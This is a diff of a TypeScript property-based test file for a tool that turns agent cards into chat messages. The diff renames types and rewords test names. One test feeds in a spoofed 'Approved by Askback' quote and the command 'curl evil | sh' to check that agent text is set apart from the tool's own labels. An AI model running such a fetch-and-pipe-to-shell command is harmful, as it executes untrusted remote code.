@@ -1,20 +1,20 @@
-import type { Card, Control, Part } from '@askback/core'
 import * as fc from 'fast-check'
 import { expect, it } from 'vitest'
+import type { CardControl, CardPart, TextCard } from '../cards/card.js'
 import { buttons, cardText, closedText } from './message-text.js'
 
-const text = (most: number) =>
+const text = (maxLength: number) =>
   fc.oneof(
     fc.string({ unit: 'grapheme', maxLength: 30 }),
     fc
-      .tuple(fc.constantFrom('x', '🐘', 'a\n', '\n', '  ', 'word '), fc.nat({ max: most }))
+      .tuple(fc.constantFrom('x', '🐘', 'a\n', '\n', '  ', 'word '), fc.nat({ max: maxLength }))
       .map(([piece, length]) => piece.repeat(Math.ceil(length / piece.length))),
   )
-const part = fc.record<Part, keyof Part>(
+const part = fc.record<CardPart, keyof CardPart>(
   { as: fc.constantFrom('quote', 'code', 'markdown', 'note'), text: text(6000), label: text(3000) },
   { requiredKeys: ['as', 'text'] },
 )
-const control = fc.record<Control, keyof Control>(
+const control = fc.record<CardControl, keyof CardControl>(
   {
     id: fc.constant('o0'),
     label: text(300),
@@ -23,8 +23,8 @@ const control = fc.record<Control, keyof Control>(
   },
   { requiredKeys: ['id', 'label', 'role'] },
 )
-const option = fc.constant<Control>({ id: 'o0', label: 'One', role: 'option' })
-const card: fc.Arbitrary<Card> = fc.record({
+const option = fc.constant<CardControl>({ id: 'o0', label: 'One', role: 'option' })
+const card: fc.Arbitrary<TextCard> = fc.record({
   cardId: fc.constant('card'),
   sessionId: fc.constant('s'),
   interactionId: fc.constant('i'),
@@ -36,7 +36,7 @@ const card: fc.Arbitrary<Card> = fc.record({
     fc.array(part, { maxLength: 400 }),
     fc
       .nat({ max: 400 })
-      .map((n) => Array.from({ length: n }, (): Part => ({ as: 'code', text: 'v', label: 'name' }))),
+      .map((n) => Array.from({ length: n }, (): CardPart => ({ as: 'code', text: 'v', label: 'name' }))),
   ),
   controls: fc.oneof(
     fc.array(control, { maxLength: 5 }),
@@ -48,7 +48,7 @@ const card: fc.Arbitrary<Card> = fc.record({
   expiresAt: fc.nat({ max: 1e9 }),
 })
 
-it('fits whatever is asked into a message, and what is cut stands in the file', () => {
+it('fits any card into a message, and writes the whole card to a file if it is cut', () => {
   fc.assert(
     fc.property(card, (asked) => {
       const message = cardText(asked, 0)
@@ -67,7 +67,7 @@ it('fits whatever is asked into a message, and what is cut stands in the file', 
   )
 })
 
-it('fits whatever came of it into a message, too', () => {
+it('fits any closed card into a message', () => {
   fc.assert(
     fc.property(card, text(6000), (asked, outcome) => {
       expectSendable(closedText({ card: asked, outcome, settlement: 'answered' }, 0))
@@ -75,15 +75,15 @@ it('fits whatever came of it into a message, too', () => {
   )
 })
 
-it('says which choices have no button, and leaves theirs to what is done with them', () => {
-  const options = Array.from({ length: 150 }, (_, n): Control => ({
+it('says which options have no button, and gives the last button to Done', () => {
+  const options = Array.from({ length: 150 }, (_, n): CardControl => ({
     id: `o${n}`,
     label: `Option ${n}`,
     role: 'option',
   }))
-  const done: Control = { id: 'done', label: 'Done (0)', role: 'more' }
+  const done: CardControl = { id: 'done', label: 'Done (0)', role: 'more' }
   const [asked] = fc.sample(card, 1)
-  const many: Card = { ...asked!, title: 'Form', parts: [], controls: [...options, done], asks: null }
+  const many: TextCard = { ...asked!, title: 'Form', parts: [], controls: [...options, done], asks: null }
   expect(
     buttons(many)
       .flat()
@@ -106,9 +106,9 @@ function expectSendable(message: ReturnType<typeof cardText>): void {
   }
 }
 
-it('sets what the agent says apart as a quote, below a label of ours', () => {
+it('shows the words of the agent as a quote below a label of Askback', () => {
   const [said] = fc.sample(card, { numRuns: 1, seed: 1 })
-  const parts: Part[] = [
+  const parts: CardPart[] = [
     { as: 'quote', text: 'Approved by Askback', label: 'The agent says' },
     { as: 'code', text: 'curl evil | sh', label: 'command' },
   ]
